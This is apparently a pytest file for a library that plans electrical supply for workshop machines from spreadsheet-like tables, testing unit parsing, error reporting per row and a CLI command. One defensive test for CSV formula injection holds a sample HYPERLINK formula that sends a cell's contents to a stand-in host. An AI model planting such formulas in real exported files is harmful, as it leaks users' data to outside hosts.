"""A table of machines: each row alone, a bad one costs itself, and what comes out can be used."""
# ruff: noqa: ANN401 - a stand-in for map takes anything

import csv
import io
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from click.testing import CliRunner

import ampwright as aw
from ampwright.cli import main
from ampwright.spreadsheet import KEYS, UNITS, slot_of

EXAMPLE = Path(__file__).parents[2] / "docs" / "examples" / "tanner-row.toml"
SUPPLY = {
    "arrangement": "split-phase", "voltage": "240 V", "frequency": "60 Hz", "rating": "150 A",
    "existing_load": "10 A",
}  # fmt: skip
SHOP = {"region": "us", "supply": SUPPLY}
ROWS: list[dict[str, object]] = [
    {"id": "saw", "power": "5 hp", "voltage": "230/460 V", "current": "13.4/6.7 A",
     "length": "12 m", "start": "light"},
    {"id": "fan", "power": "2 hp", "voltage": "230 V", "load_torque": "fan", "start": "normal"},
]  # fmt: skip


def text_of(rows: str) -> io.BytesIO:
    return io.BytesIO(rows.encode())


def test_a_row_says_what_the_plan_of_its_machine_says() -> None:
    found = aw.plan_table(ROWS, shop=SHOP)
    stated = aw.Shop.from_dict({
        **SHOP,
        "machines": [{"id": "saw", "length": "12 m", "start": "light", "motors": [
            {"power": "5 hp", "voltage": "230/460 V", "current": "13.4/6.7 A"}]}],
    })  # fmt: skip
    plan = aw.plan(stated)
    assert plan.best is not None
    row = found.rows[0]
    assert (row["row"], row["id"], row["error"]) == (1, "saw", None)
    assert (row["verdict"], row["method"]) == (plan.verdict, plan.best.assignment["saw"])
    assert row["rating_w"] == plan.best.converters[0].rating_w
    assert row["device_rating_a"] == plan.best.circuits[0].protective_device.rating_a
    assert found.errors == ()


def test_rows_columns_and_csv_are_the_same() -> None:
    keys = ["id", "power", "voltage", "length"]
    rows = [{"id": "a", "power": "5 hp", "voltage": "230 V", "length": "8 m"},
            {"id": "b", "power": "3 hp", "voltage": "230 V"}]  # fmt: skip
    columns = {key: [row.get(key) for row in rows] for key in keys}
    text = "id,power,voltage,length\na,5 hp,230 V,8 m\nb,3 hp,230 V,\n"
    one, two, three = (
        aw.plan_table(each, shop=SHOP) for each in (rows, columns, text_of(text))
    )  # fmt: skip
    assert one.rows == two.rows == three.rows


def test_numbers_are_in_the_unit_of_their_key() -> None:
    """The same as text; nan is not stated."""
    text = aw.plan_table([{"power": "5 hp", "voltage": "230 V", "length": "9.5 m"},
                          {"power": "3 hp", "voltage": "230 V"}], shop=SHOP)  # fmt: skip
    arrays = aw.plan_table(
        {"power_hp": np.array([5.0, 3.0]), "voltage_v": np.array([230, 230]),
         "length_m": np.array([9.5, np.nan])},
        shop=SHOP,
    )  # fmt: skip
    assert arrays.rows == text.rows


def test_columns_come_out_as_arrays() -> None:
    found = aw.plan_table([*ROWS, {"id": "bad", "power": "5"}], shop=SHOP)
    columns = found.columns
    assert list(columns) == list(found.keys) == list(KEYS)
    assert columns["input_current_a"].dtype == float
    assert columns["input_current_a"][:2].tolist() == [
        row["input_current_a"] for row in found.rows[:2]
    ]
    assert np.isnan(columns["input_current_a"][2])
    assert columns["id"].tolist() == ["saw", "fan", "bad"]
    assert found.units["input_current_a"] == "A"


def test_a_bad_row_costs_itself_and_says_where() -> None:
    text = 'id,power,voltage\na,5 hp,230 V\nb,"7,5 kW",230 V\nc,5 hp,230 V\n'
    found = aw.plan_table(text_of(text), shop=SHOP)
    alone = aw.plan_table(text_of("id,power,voltage\na,5 hp,230 V\nc,5 hp,230 V\n"), shop=SHOP)
    (error,) = found.errors
    assert isinstance(error, aw.UnitError)
    assert str(error).startswith("row 2 (line 3): power: ")
    assert found.rows[1]["error"] == str(error)
    assert found.rows[1]["verdict"] is None
    kept = [{**row, "row": None} for row in (found.rows[0], found.rows[2])]
    assert kept == [{**row, "row": None} for row in alone.rows]


def test_a_decimal_comma_is_read_where_the_locale_has_one() -> None:
    found = aw.plan_table([{"power": "7,5 kW", "voltage": "230 V"}], shop=SHOP, locale="de-DE")
    assert found.errors == ()


def test_rows_alike_are_planned_once() -> None:
    asked: list[Any] = []

    def counted(function: Any, items: Any) -> Any:
        asked.extend(items)
        return map(function, asked)

    rows = [{"id": f"m{n}", "power": "5 hp", "voltage": "230 V"} for n in range(50)]
    found = aw.plan_table(rows, shop=SHOP, map=counted)
    assert len(asked) == 1
    assert [one["id"] for one in found.rows] == [row["id"] for row in rows]
    assert len({one["input_current_a"] for one in found.rows}) == 1


def test_any_map_will_do() -> None:
    with ThreadPoolExecutor(2) as pool:
        assert aw.plan_table(ROWS, shop=SHOP, map=pool.map).rows == aw.plan_table(
            ROWS, shop=SHOP
        ).rows  # fmt: skip


@pytest.mark.parametrize(
    ("key", "cell", "stated"),
    [
        ("variable_speed", "yes", {"variable_speed": True}),
        ("traits", "reversing two-speed", {"traits": ["reversing", "two-speed"]}),
        ("efficiency", "0.88", {"motors": [{"efficiency": 0.88}]}),
        ("efficiency", "88 %", {"motors": [{"efficiency": "88 %"}]}),
        ("leads", "6", {"motors": [{"leads": 6}]}),
        ("year", 1961.0, {"motors": [{"year": 1961}]}),
        ("length_ft", "40", {"length": "40 ft"}),
        ("name", 12, {"name": "12"}),
        ("overload_range", "6-10 A", {"motors": [{"overload_range": "6-10 A"}]}),
    ],
)  # fmt: skip
def test_a_cell_is_what_its_field_takes(key: str, cell: object, stated: dict[str, Any]) -> None:
    given: list[dict[str, Any]] = []

    def kept(function: Any, items: Any) -> Any:
        given.extend(items)
        return map(function, given)

    found = aw.plan_table(
        [{"power": "5 hp", "voltage": "230 V", key: cell}], shop=SHOP, map=kept
    )  # fmt: skip
    assert found.errors == ()
    (machine,) = given[0]["machines"]
    for name, value in stated.items():
        if name == "motors":
            (motor,) = value
            assert machine["motors"][0].items() >= motor.items()
        else:
            assert machine[name] == value


def test_a_plate_stands_for_the_motor() -> None:
    found = aw.plan_table([{"plate": "5 HP 3PH 230/460 V 13.2/6.6 A 60 HZ"}], shop=SHOP)
    assert found.errors == ()
    assert found.rows[0]["verdict"] is not None


def test_each_row_may_have_its_own_supply() -> None:
    rows = [
        {"power": "5 hp", "voltage": "230 V", "supply.rating_a": amperes, "site.ambient": "30 degC"}
        for amperes in (150, 20)
    ]
    large, small = aw.plan_table(rows, shop=SHOP).rows
    assert large["verdict"] == "feasible"
    assert small["verdict"] == "not-feasible"
    assert "supply.undersized" in str(small["blocks"]) + str(small["cautions"])


@pytest.mark.parametrize(
    ("text", "code", "said"),
    [
        ('id,power\n"a,5 hp\nb,3 hp\n', "csv.quote", "line 2"),
        ("id,power,power\na,5 hp,7 hp\n", "csv.duplicate_header", "columns 2 and 3"),
        ("id,,power\na,,5 hp\n", "csv.empty_header", "column 2"),
        ("", "csv.no_header", "line 1"),
        ("id,powr\na,5 hp\n", "table.unknown_column", 'did you mean "power"?'),
        ("id,power,power_hp\na,5 hp,5\n", "table.same_field", "power_hp"),
    ],
)
def test_a_file_that_cannot_be_read_plans_nothing(text: str, code: str, said: str) -> None:
    with pytest.raises(aw.AmpwrightError, match="expected") as caught:
        aw.plan_table(text_of(text), shop=SHOP)
    assert caught.value.code == code
    assert said in str(caught.value)


def test_text_that_is_not_utf_8_is_refused() -> None:
    with pytest.raises(aw.FormatError) as caught:
        aw.plan_table(io.BytesIO(b"id,power\na,\xff hp\n"), shop=SHOP)
    assert caught.value.code == "csv.encoding"


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("id,power\na,5 hp,99\nb,5 hp\n", "csv.row_width"),
        ("id,power\na\nb,5 hp\n", "csv.row_width"),
        ("id,power\na,5 \x00hp\nb,5 hp\n", "csv.control_character"),
    ],
)
def test_a_row_that_cannot_be_read_leaves_the_others(text: str, code: str) -> None:
    found = aw.plan_table(text_of(text), shop=SHOP)
    (error,) = found.errors
    assert error.code == code
    assert "line 2" in str(error)
    assert "\x00" not in str(error)
    assert found.rows[1]["verdict"] is not None


def test_semicolons_and_quoted_line_breaks_are_read() -> None:
    text = 'id;name;power\na;"two\nlines";5 hp\n\nb;x;3 hp\n'
    found = aw.plan_table(text_of(text), shop=SHOP)
    assert [one["name"] for one in found.rows] == ["two\nlines", "x"]
    assert found.errors == ()


def test_columns_of_unequal_length_are_refused() -> None:
    with pytest.raises(aw.ConsistencyError) as caught:
        aw.plan_table({"id": ["a", "b"], "power": ["5 hp"]}, shop=SHOP)
    assert caught.value.code == "table.length"


def test_no_cell_becomes_a_formula() -> None:
    """CWE-1236: a text that a spreadsheet would run is led by an apostrophe."""
    name = '=HYPERLINK("http://x.example/?"&A1,"open")'
    found = aw.plan_table([{"id": "a", "name": name, "power": "5 hp"}], shop=SHOP)
    assert found.rows[0]["name"] == name
    (row,) = csv.DictReader(io.StringIO(found.to_csv()))
    assert row["name"] == f"'{name}"


def test_units_are_ones_that_quantities_are_read_with() -> None:
    for key in ("power", "voltage", "current", "frequency", "length", "hours_per_year"):
        assert slot_of(key).unit == ""
    assert {slot_of(f"power_{one}").unit for one in ("hp", "kw", "w")} == {"hp", "kW", "W"}
    assert set(UNITS.values()) >= {"ohm", "N m", "kg m2"}


def test_the_command_writes_csv_and_says_what_is_wrong(tmp_path: Path) -> None:
    file = tmp_path / "machines.csv"
    file.write_text("id,power,voltage\na,5 hp,230 V\nb,5,230 V\n", encoding="utf-8")
    done = CliRunner().invoke(main, ["table", str(file), "--shop", str(EXAMPLE)])
    assert done.exit_code == 2
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    assert [one["id"] for one in rows] == ["a", "b"]
    assert rows[0]["verdict"]
    assert "row 2 (line 3): power" in done.stderr
